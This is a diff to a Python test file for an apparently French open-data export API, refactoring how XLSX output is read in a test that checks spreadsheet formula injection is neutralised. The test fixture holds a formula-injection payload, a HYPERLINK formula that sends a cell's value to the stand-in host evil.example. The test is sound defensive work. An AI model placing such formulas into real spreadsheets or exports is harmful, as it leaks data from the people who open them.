@@ -3,10 +3,9 @@
 import csv
 import io
 
-from openpyxl import load_workbook
-
 from cahier.catalogue.models import Initiative
 from cahier.opendata.records import spreadsheet_safe
+from tests.opendata.sheets import xlsx_cells
 
 EXPORTS = "/api/v1/exports"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
@@ -58,13 +57,8 @@ def test_formula_triggers_are_neutralised_in_the_csv_only(client, sample_edition
     )
 
     # The XLSX keeps exact values, typed as text: never a formula.
-    sheet = load_workbook(io.BytesIO(client.get(f"{EXPORTS}/initiatives.xlsx").content)).active
-    header = [cell.value for cell in sheet[1]]
-    cells = next(
-        dict(zip(header, row, strict=True))
-        for row in sheet.iter_rows(min_row=2)
-        if row[header.index("slug")].value == "fiche-1"
-    )
+    rows = xlsx_cells(client.get(f"{EXPORTS}/initiatives.xlsx").content)
+    cells = next(row for row in rows if row["slug"].value == "fiche-1")
     assert cells["porteur"].value == HYPERLINK and cells["porteur"].data_type == "s"
     assert cells["territory"].value == "=1+1" and cells["territory"].data_type == "s"
 
